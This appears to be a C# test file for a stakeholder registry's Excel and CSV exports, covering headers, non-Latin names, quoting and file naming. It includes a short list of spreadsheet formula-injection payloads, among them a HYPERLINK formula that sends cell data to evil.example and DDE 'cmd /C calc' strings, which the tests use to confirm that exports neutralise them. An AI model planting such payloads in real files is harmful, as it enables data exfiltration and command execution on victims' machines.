namespace Consultation.Tests.Exports;

using System.Text;
using ClosedXML.Excel;
using Consultation.Web.Domain;
using Consultation.Web.Exports;
using CsvHelper;

/// <summary>The registry's downloads, read back with the libraries a reader's tools would use: every field, any script, nothing evaluated.</summary>
public sealed class RegistryExportTests
{
    private static readonly DateTimeOffset Created = new(2026, 12, 3, 9, 15, 0, TimeSpan.Zero);

    public static TheoryData<string> Formulas => ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "=1+1"];

    [Fact]
    public async Task Workbook_HasTheStableEnglishHeaders_AndEveryFieldOfThePerson()
    {
        using var workbook = await ReadBackAsync([Person("佐藤 結衣", "東京AIラボ") with
        {
            Sector = Sector.Academia,
            Tags = ["expert panel", "2026"],
            ConsentGiven = true,
            ConsentDate = new DateOnly(2026, 11, 2),
            ConsentSource = "Workshop form",
            Notes = "Met in Tokyo",
            NeverEmail = true,
        }]);
        var sheet = workbook.Worksheet(RegistryExport.SheetName);

        Assert.Equal(RegistryExport.Headers, Enumerable.Range(1, 14).Select(c => sheet.Cell(1, c).GetString()));
        Assert.Equal("佐藤 結衣", sheet.Cell(2, 1).GetString());
        Assert.Equal("person@example.org", sheet.Cell(2, 2).GetString());
        Assert.Equal("東京AIラボ", sheet.Cell(2, 3).GetString());
        Assert.Equal("Academia", sheet.Cell(2, 4).GetString());
        Assert.Equal("JP", sheet.Cell(2, 5).GetString());
        Assert.Equal("ja", sheet.Cell(2, 6).GetString());
        Assert.Equal("Asia/Tokyo", sheet.Cell(2, 7).GetString());
        Assert.Equal("expert panel, 2026", sheet.Cell(2, 8).GetString());
        Assert.True(sheet.Cell(2, 9).GetBoolean());
        Assert.Equal(new DateTime(2026, 11, 2), sheet.Cell(2, 10).GetDateTime());
        Assert.Equal("Workshop form", sheet.Cell(2, 11).GetString());
        Assert.Equal("Met in Tokyo", sheet.Cell(2, 12).GetString());
        Assert.True(sheet.Cell(2, 13).GetBoolean());
        Assert.Equal(Created.UtcDateTime, sheet.Cell(2, 14).GetDateTime());
        Assert.True(sheet.Cell(3, 1).IsEmpty());
    }

    [Theory]
    [InlineData("김민준", "서울 디지털 권리 포럼")]
    [InlineData("محمد الأحمد", "مركز السياسات الرقمية")]
    [InlineData("00123", "3-3.5")]
    public async Task Workbook_KeepsNamesInAnyScript_AndTextThatLooksLikeANumber_AsText(string name, string organisation)
    {
        using var workbook = await ReadBackAsync([Person(name, organisation)]);
        var sheet = workbook.Worksheet(RegistryExport.SheetName);

        Assert.Equal(name, sheet.Cell(2, 1).GetString());
        Assert.Equal(organisation, sheet.Cell(2, 3).GetString());
        Assert.Equal(XLDataType.Text, sheet.Cell(2, 3).DataType);
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task Workbook_WritesAFormulaTypedIntoANameOrANote_AsTextThatIsNeverEvaluated(string formula)
    {
        using var workbook = await ReadBackAsync([Person(formula, formula) with { Notes = formula, ConsentSource = formula }]);
        var sheet = workbook.Worksheet(RegistryExport.SheetName);

        foreach (var column in new[] { 1, 3, 11, 12 })
        {
            var cell = sheet.Cell(2, column);
            Assert.False(cell.HasFormula, $"Column {column} holds a formula.");
            Assert.Equal(XLDataType.Text, cell.DataType);
            Assert.Equal(formula, cell.GetString());
        }
    }

    [Fact]
    public async Task Csv_StartsWithAByteOrderMark_AndReadsBackWithTheHeaders_AndEveryField()
    {
        var bytes = await CsvAsync([Person("김민준", "서울 디지털 권리 포럼") with { Tags = ["a", "b"], ConsentGiven = true, ConsentDate = new DateOnly(2026, 11, 2) }]);

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var rows = ReadCsv(bytes);
        Assert.Equal(RegistryExport.Headers, rows[0]);
        Assert.Equal(["김민준", "person@example.org", "서울 디지털 권리 포럼", "Other", "JP", "ja", "Asia/Tokyo", "a, b", "true", "2026-11-02", "", "", "false", "2026-12-03T09:15:00Z"], rows[1]);
        Assert.Equal(2, rows.Count);
    }

    [Fact]
    public async Task Csv_QuotesCommasQuotesAndLineBreaks_AsRfc4180Says()
    {
        var notes = "First line, with a comma\nSecond \"quoted\" line";
        var bytes = await CsvAsync([Person("Odhiambo, Amina", "Lab \"One\"") with { Notes = notes }]);

        var text = Encoding.UTF8.GetString(bytes);
        Assert.Contains("\"Odhiambo, Amina\"", text, StringComparison.Ordinal);
        Assert.Contains("\"Lab \"\"One\"\"\"", text, StringComparison.Ordinal);
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
        var row = ReadCsv(bytes)[1];
        Assert.Equal("Odhiambo, Amina", row[0]);
        Assert.Equal("Lab \"One\"", row[2]);
        Assert.Equal(notes, row[11]);
    }

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task Csv_PrefixesAFieldThatStartsLikeAFormula_WithASingleQuote(string formula)
    {
        var bytes = await CsvAsync([Person(formula, formula) with { Notes = formula }]);

        var row = ReadCsv(bytes)[1];
        Assert.Equal("'" + formula, row[0]);
        Assert.Equal("'" + formula, row[2]);
        Assert.Equal("'" + formula, row[11]);
        Assert.Equal("person@example.org", row[1]);
    }

    [Fact]
    public void FileName_NamesTheDay_InUtc() =>
        Assert.Equal("stakeholders-2026-12-03.xlsx", RegistryExport.FileName(new DateTimeOffset(2026, 12, 4, 1, 0, 0, TimeSpan.FromHours(9)), "xlsx"));

    private static RegistryRow Person(string name, string organisation) =>
        new(name, "person@example.org", organisation, Sector.Other, "JP", "ja", "Asia/Tokyo", [], false, null, null, null, false, Created);

    private static async Task<XLWorkbook> ReadBackAsync(RegistryRow[] rows)
    {
        using var written = await RegistryExport.WorkbookAsync(rows.ToAsyncEnumerable(), CancellationToken.None);
        var file = new MemoryStream();
        written.SaveAs(file);
        file.Position = 0;
        return new XLWorkbook(file);
    }

    private static async Task<byte[]> CsvAsync(RegistryRow[] rows)
    {
        using var file = new MemoryStream();
        await RegistryExport.WriteCsvAsync(file, rows.ToAsyncEnumerable(), CancellationToken.None);
        return file.ToArray();
    }

    /// <summary>Every record, the header first, as the CSV library reads it.</summary>
    public static List<string[]> ReadCsv(byte[] bytes)
    {
        using var reader = CsvReader.Create(bytes, CsvReaderOptions.Default with { HasHeader = false });
        var rows = new List<string[]>();
        while (reader.Read())
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        return rows;
    }
}
